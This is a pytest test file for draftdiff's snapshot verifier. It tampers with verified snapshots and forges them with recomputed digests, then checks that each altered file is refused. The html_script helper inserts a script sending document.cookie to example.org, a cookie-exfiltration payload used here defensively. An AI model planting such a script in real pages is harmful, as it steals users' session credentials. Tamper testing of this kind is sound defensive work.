@@ -1,0 +1,418 @@
+"""The tamper suite: every snapshot format × edits of its content, provenance, version, marker and folder.
+
+Authors cite snapshots; a forged one that verifies is the worst failure draftdiff can
+have. Each edit below is made to a file that verifies as written, and each edited
+file must be refused: exit 2 when the file is not what draftdiff wrote (with the
+line), exit 1 when it is self-consistent but the drafts say otherwise. Never 0.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+from collections.abc import Callable
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from snapshot_fixtures import write_collection
+
+from draftdiff import __version__
+from draftdiff.cli import main
+from draftdiff.render import render
+from draftdiff.snapshot.digest import compute_digest
+from draftdiff.snapshot.model import SNAPSHOT_FORMAT, snapshot_from_dict
+
+FORMATS = ("md", "json", "html", "csv", "text", "bibtex", "csl", "cff")
+CITATIONS = ("md", "json", "html", "text", "bibtex", "csl", "cff")
+"""Every format but CSV states its provenance (CSV rows hold content and the marker only)."""
+ARGS = ("--as-of", "2024-09-15", "--author", "Doe, Jane", "--timestamp")
+
+needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+
+
+def git(cwd: Path, *args: str) -> str:
+    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.org", GIT_COMMITTER_NAME="t",
+               GIT_COMMITTER_EMAIL="t@example.org", GIT_CONFIG_GLOBAL=os.devnull, GIT_CONFIG_NOSYSTEM="1")
+    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True,
+                          text=True).stdout.strip()
+
+
+def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
+    code = main(list(argv))
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+class Made:
+    """A repository with two commits (the older gives another digest) and a verified snapshot in every format."""
+
+    def __init__(self, root: Path) -> None:
+        self.root = root
+        self.older = git(root, "rev-parse", "HEAD~1")
+        self.head = git(root, "rev-parse", "HEAD")
+        self.digest = json.loads((root / "s.json").read_text(encoding="utf-8"))["digest"]
+
+    def text(self, fmt: str) -> str:
+        return (self.root / f"s.{fmt}").read_bytes().decode("utf-8")
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory: pytest.TempPathFactory) -> Made:
+    if shutil.which("git") is None:
+        pytest.skip("git is not installed")
+    root = tmp_path_factory.mktemp("tamper")
+    drafts = write_collection(root)
+    git(root, "init", "-q", "-b", "main")
+    git(root, "add", "drafts")
+    git(root, "commit", "-q", "-m", "first")
+    path = drafts / "b-2024-09-11.yaml"
+    path.write_text(first(path.read_text(encoding="utf-8"), "title: Recognition", "title: Mutual recognition"),
+                    encoding="utf-8")
+    git(root, "commit", "-q", "-am", "a title changes: another digest as of 2024-09-15")
+    old = Path.cwd()
+    os.chdir(root)
+    os.environ["SOURCE_DATE_EPOCH"] = "1735689600"
+    try:
+        for fmt in FORMATS:
+            assert main(["snapshot", *ARGS, "-f", fmt, "-o", f"s.{fmt}"]) == 0
+            assert main(["snapshot", "verify", f"s.{fmt}"]) == 0, fmt
+    finally:
+        os.environ.pop("SOURCE_DATE_EPOCH")
+        os.chdir(old)
+    return Made(root)
+
+
+def first(text: str, old: str, new: str) -> str:
+    assert old in text, old
+    return text.replace(old, new, 1)
+
+
+def every(text: str, old: str, new: str) -> str:
+    assert old in text, old
+    return text.replace(old, new)
+
+
+def edit_embedded(text: str, fmt: str, change: Callable[[dict], None]) -> str:
+    """Change the JSON a file embeds, and write it back as draftdiff would have."""
+    if fmt == "json":
+        data = json.loads(text)
+        change(data)
+        return json.dumps(data, indent=2, ensure_ascii=False) + "\n"
+    pattern = r"(<!-- draftdiff-snapshot )(.*)( -->)" if fmt == "md" else r"(<script[^>]*>)(.*?)(</script>)"
+    found = re.search(pattern, text, re.S)
+    assert found
+    data = json.loads(found.group(2))
+    change(data)
+    payload = json.dumps(data, ensure_ascii=False, separators=(",", ":"))
+    payload = payload.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
+    return text[:found.start(2)] + payload + text[found.end(2):]
+
+
+def visible_status(text: str, fmt: str) -> str:
+    """The forces article's status, partial, shown as agreed where a reader sees it."""
+    if fmt == "md":
+        return first(text, "**partial**", "**agreed**")
+    if fmt == "html":
+        return first(text, '<span class="partial">◐ partial</span>', '<span class="agreed">✓ agreed</span>')
+    if fmt == "json":
+        return edit_embedded(text, fmt, lambda d: d["content"]["articles"][2].update(status="agreed"))
+    if fmt == "csv":
+        return first(text, ",partial,", ",agreed,")
+    if fmt == "text":
+        return first(text, "◐ partial ", "✓ agreed  ")
+    return every(text, "Status of the 4 articles", "Status of the 5 articles")  # what a citation states
+
+
+def forged(made: Made, fmt: str) -> str:
+    """A whole forgery: the content changed, the digest recomputed, the file rendered by draftdiff itself."""
+    snap = snapshot_from_dict(json.loads(made.text("json")))
+    articles = list(snap.articles)
+    articles[2] = replace(articles[2], status="agreed")
+    fake = replace(snap, articles=tuple(articles), counts=replace(snap.counts, agreed=3, partial=0))
+    return render("snapshot", fmt, replace(fake, digest=compute_digest(fake)))
+
+
+def provenance_null(text: str, fmt: str) -> str:
+    return edit_embedded(text, fmt, lambda d: d.update(provenance=None))
+
+
+def one_commit(made: Made) -> Callable[[str, str], str]:
+    return lambda text, fmt: first(text, made.head, made.older)
+
+
+def every_commit(made: Made) -> Callable[[str, str], str]:
+    return lambda text, fmt: every(text, made.head, made.older)
+
+
+def tool_version(text: str, fmt: str) -> str:
+    """Another version of draftdiff named, consistently, everywhere it is named."""
+    text = every(text, f"draftdiff {__version__}", "draftdiff 9.9.9")
+    for old in (f'"tool_version": "{__version__}"', f'"tool_version":"{__version__}"'):
+        text = text.replace(old, old.replace(__version__, "9.9.9"))
+    return text
+
+
+def tool_version_json_only(text: str, fmt: str) -> str:
+    return edit_embedded(text, fmt, lambda d: d["provenance"].update(tool_version="9.9.9"))
+
+
+def format_version(text: str, fmt: str) -> str:
+    """The snapshot format's version (the layout of the JSON, the marker's number) made one more."""
+    if fmt in ("md", "json", "html"):
+        number = int(SNAPSHOT_FORMAT.rsplit("/", 1)[1])
+        return every(text, SNAPSHOT_FORMAT, SNAPSHOT_FORMAT.replace(f"/{number}", f"/{number + 1}"))
+    found = re.search(r"draftdiff-snapshot:(\d+) ", text)
+    assert found
+    return every(text, found.group(0), f"draftdiff-snapshot:{int(found.group(1)) + 1} ")
+
+
+def marker_once(text: str, fmt: str) -> str:
+    return first(text, "as-of=2024-09-15", "as-of=2024-09-16")
+
+
+def marker_everywhere(text: str, fmt: str) -> str:
+    return every(text, "as-of=2024-09-15", "as-of=2024-09-16")
+
+
+def digest_everywhere(made: Made) -> Callable[[str, str], str]:
+    return lambda text, fmt: every(text, made.digest.removeprefix("sha256:"), "0" * 64)
+
+
+def folder_once(text: str, fmt: str) -> str:
+    dashes = "-{}-" if fmt == "bibtex" else "--"  # BibTeX breaks '--' so TeX prints no dash
+    return first(text, f"{dashes}drafts drafts", f"{dashes}drafts elsewhere")
+
+
+def html_script(text: str, fmt: str) -> str:
+    return first(text, "</body>", "<script>fetch('https://example.org/?'+document.cookie)</script>\n</body>")
+
+
+def check(made: Made, capsys: pytest.CaptureFixture[str], fmt: str, edited: str, codes: tuple[int, ...]) -> str:
+    assert edited != made.text(fmt), "the edit changed nothing"
+    path = made.root / f"edited.{fmt}"
+    path.write_bytes(edited.encode("utf-8"))
+    old = Path.cwd()
+    os.chdir(made.root)
+    try:
+        code, out, err = run(capsys, "snapshot", "verify", path.name)
+    finally:
+        os.chdir(old)
+    assert code in codes, (code, out, err)
+    assert "verified:" not in out and "Traceback" not in err and "internal error" not in err
+    return out + err
+
+
+EDITED = (2,)
+"""Not what draftdiff wrote: refused as edited."""
+REFUSED = (1, 2)
+"""Self-consistent, but the drafts (or the commit it names) say otherwise."""
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_content_edited_where_a_reader_sees_it(made: Made, capsys, fmt: str) -> None:
+    said = check(made, capsys, fmt, visible_status(made.text(fmt), fmt), EDITED)
+    assert re.search(rf"edited\.{fmt}(:\d+(:\d+)?)?: ", said)
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_content_forged_with_its_digest_recomputed(made: Made, capsys, fmt: str) -> None:
+    said = check(made, capsys, fmt, forged(made, fmt), REFUSED)
+    if "does NOT match" in said and fmt in ("md", "json", "html", "csv"):
+        assert "article 3 (forces): status agreed → partial" in said
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", CITATIONS)
+def test_provenance_commit_edited_once(made: Made, capsys, fmt: str) -> None:
+    check(made, capsys, fmt, one_commit(made)(made.text(fmt), fmt), EDITED)
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", CITATIONS)
+def test_provenance_commit_edited_everywhere_names_a_commit_that_does_not_give_it(made: Made, capsys,
+                                                                                  fmt: str) -> None:
+    said = check(made, capsys, fmt, every_commit(made)(made.text(fmt), fmt), EDITED)
+    assert "the commit or folder it names was edited" in said
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", ["md", "json", "html"])
+def test_provenance_set_to_null_does_not_skip_the_check(made: Made, capsys, fmt: str) -> None:
+    said = check(made, capsys, fmt, provenance_null(made.text(fmt), fmt), EDITED)
+    assert "records no provenance" in said
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", CITATIONS)
+def test_version_edited_everywhere_is_refused(made: Made, capsys, fmt: str) -> None:
+    said = check(made, capsys, fmt, tool_version(made.text(fmt), fmt), EDITED)
+    assert "only by the version that wrote it" in said or "not what draftdiff wrote" in said
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", ["md", "json", "html"])
+def test_version_edited_in_the_embedded_json_only(made: Made, capsys, fmt: str) -> None:
+    check(made, capsys, fmt, tool_version_json_only(made.text(fmt), fmt), EDITED)
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_format_version_edited(made: Made, capsys, fmt: str) -> None:
+    check(made, capsys, fmt, format_version(made.text(fmt), fmt), EDITED)
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_marker_edited_once(made: Made, capsys, fmt: str) -> None:
+    check(made, capsys, fmt, marker_once(made.text(fmt), fmt), EDITED)
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_marker_edited_everywhere(made: Made, capsys, fmt: str) -> None:
+    check(made, capsys, fmt, marker_everywhere(made.text(fmt), fmt), REFUSED)
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_digest_edited_everywhere(made: Made, capsys, fmt: str) -> None:
+    said = check(made, capsys, fmt, digest_everywhere(made)(made.text(fmt), fmt), REFUSED)
+    if fmt in ("csv", "text", "bibtex", "csl", "cff") and "does NOT match" in said:
+        assert "its text was not checked line by line" in said
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", CITATIONS)
+def test_folder_edited_in_the_reproduce_command(made: Made, capsys, fmt: str) -> None:
+    check(made, capsys, fmt, folder_once(made.text(fmt), fmt), EDITED)
+
+
+@needs_git
+def test_an_html_snapshot_with_an_added_script_is_refused(made: Made, capsys) -> None:
+    said = check(made, capsys, "html", html_script(made.text("html"), "html"), EDITED)
+    assert "<script>fetch" in said or "this line is not what draftdiff wrote" in said or "more lines" in said
+
+
+# --- a snapshot made from a tampered copy elsewhere ------------------------------------------------------
+
+@pytest.fixture
+def copy_elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
+    """The real collection in repo/, and a tampered copy outside it that a snapshot was made from."""
+    repo = tmp_path / "repo"
+    write_collection(repo)
+    (repo / "notes").mkdir()
+    copy = write_collection(tmp_path / "elsewhere")
+    path = copy / "b-2024-09-11.yaml"
+    path.write_text(first(path.read_text(encoding="utf-8"), "title: Borders", "title: Borders as the copy has them"),
+                    encoding="utf-8")
+    monkeypatch.chdir(tmp_path)
+    for fmt in FORMATS:
+        assert main(["snapshot", "--drafts", str(copy), "--as-of", "2024-09-15", "-f", fmt,
+                     "-o", str(repo / f"s.{fmt}")]) == 0
+    monkeypatch.chdir(repo)
+    return repo, copy
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_a_snapshot_of_a_tampered_copy_does_not_verify_in_the_real_collection(copy_elsewhere, capsys,
+                                                                             fmt: str) -> None:
+    code, out, _ = run(capsys, "snapshot", "verify", f"s.{fmt}")
+    assert code == 1 and "does NOT match the drafts in drafts" in out
+
+
+@pytest.mark.parametrize("fmt", ["md", "json", "html"])
+def test_a_recorded_folder_outside_the_repository_is_refused_unless_asked(copy_elsewhere, capsys, monkeypatch,
+                                                                         fmt: str) -> None:
+    repo, copy = copy_elsewhere
+    monkeypatch.chdir(repo / "notes")  # no ./drafts here: the folder the file names would be the one used
+    code, out, err = run(capsys, "snapshot", "verify", f"../s.{fmt}")
+    assert code == 2 and "outside this repository" in err and "--recorded-folder" in err and out == ""
+    code, out, _ = run(capsys, "snapshot", "verify", f"../s.{fmt}", "--recorded-folder")
+    assert code == 0 and f"verified: it matches the drafts in {copy}" in out
+
+
+@pytest.mark.parametrize("fmt", ["md", "json"])
+def test_the_folder_used_is_named_and_the_recorded_one_mentioned(copy_elsewhere, capsys, fmt: str) -> None:
+    repo, copy = copy_elsewhere
+    code, out, _ = run(capsys, "snapshot", "verify", f"s.{fmt}")
+    assert code == 1 and "does NOT match the drafts in drafts" in out
+    assert f"the snapshot was made from the drafts in {copy}" in out
+
+
+# --- what the file is -------------------------------------------------------------------------------------
+
+def test_a_fifo_and_a_link_to_dev_zero_are_refused_without_reading(tmp_path: Path, capsys, monkeypatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    os.mkfifo("pipe.json")  # opening it for reading would block until a writer came
+    code, out, err = run(capsys, "snapshot", "verify", "pipe.json")
+    assert code == 2 and "not a regular file" in err and out == ""
+    if os.path.exists("/dev/zero"):
+        os.symlink("/dev/zero", "zero.json")
+        code, _, err = run(capsys, "snapshot", "verify", "zero.json")
+        assert code == 2 and "not a regular file" in err
+
+
+def test_a_file_over_the_size_limit_is_refused(tmp_path: Path, capsys, monkeypatch) -> None:
+    from draftdiff.load import MAX_BYTES
+
+    monkeypatch.chdir(tmp_path)
+    with open("big.json", "wb") as handle:
+        handle.truncate(MAX_BYTES + 1)
+    code, _, err = run(capsys, "snapshot", "verify", "big.json")
+    assert code == 2 and f"larger than {MAX_BYTES:,} bytes" in err
+
+
+def test_a_citation_whose_drafts_changed_says_only_its_marker_was_read(tmp_path: Path, capsys, monkeypatch) -> None:
+    write_collection(tmp_path)
+    monkeypatch.chdir(tmp_path)
+    run(capsys, "snapshot", "--as-of", "2024-09-15", "-f", "cff", "-o", "s.cff")
+    path = tmp_path / "drafts" / "b-2024-09-11.yaml"
+    path.write_text(first(path.read_text(encoding="utf-8"), "title: Borders", "title: Borders and more"),
+                    encoding="utf-8")
+    code, out, _ = run(capsys, "snapshot", "verify", "s.cff")
+    assert code == 1 and "only the marker of this cff file could be read" in out
+
+
+def test_a_changed_claim_reads_as_a_change(tmp_path: Path, capsys, monkeypatch) -> None:
+    write_collection(tmp_path)
+    monkeypatch.chdir(tmp_path)
+    run(capsys, "snapshot", "--as-of", "2024-09-15", "-f", "json", "-o", "s.json")
+    path = tmp_path / "drafts" / "b-2024-09-11.yaml"
+    text = path.read_text(encoding="utf-8")
+    path.write_text(first(text, "agreed: 2, partial: 1, disputed: 1", "agreed: 2, partial: 1, disputed: 1, total: 4"),
+                    encoding="utf-8")
+    code, out, _ = run(capsys, "snapshot", "verify", "s.json")
+    assert code == 1
+    assert "claimed count Leader 2024-09-11 [src-b]: total none → 4" in out
+    assert "removed" not in out and "added" not in out
+
+
+@needs_git
+@pytest.mark.parametrize("fmt", ["md", "json", "html"])
+def test_a_draft_file_renamed_in_the_snapshot_everywhere_is_refused(made: Made, capsys, fmt: str) -> None:
+    """File names are not in the digest, but a snapshot states them: one written over another is caught."""
+    edited = every(made.text(fmt), "drafts/b-2024-09-11.yaml", "drafts/official-signed-text.yaml")
+    if fmt == "md":  # the visible lines spell the name with Markdown's escapes (no autolink)
+        from draftdiff.render.markdown import inline
+
+        edited = every(edited, inline("drafts/b-2024-09-11.yaml"), inline("drafts/official-signed-text.yaml"))
+    said = check(made, capsys, fmt, edited, (1,))
+    assert "draft 2024-09-11-status: the snapshot names its file drafts/official-signed-text.yaml; in these " \
+           "drafts it is drafts/b-2024-09-11.yaml" in said
+
+
+def test_a_snapshot_of_the_bundled_drafts_verifies_where_it_was_made(tmp_path: Path, capsys, monkeypatch) -> None:
+    from draftdiff.bundled import drafts_dir
+
+    if drafts_dir() is None:
+        pytest.skip("this install bundles no drafts")
+    monkeypatch.chdir(tmp_path)  # no ./drafts: the bundled ones are the current collection, inside or not
+    assert run(capsys, "snapshot", "--as-of", "2024-12-20", "-f", "md", "-o", "s.md")[0] == 0
+    code, out, _ = run(capsys, "snapshot", "verify", "s.md")
+    assert code == 0 and f"verified: it matches the drafts in {drafts_dir()}" in out
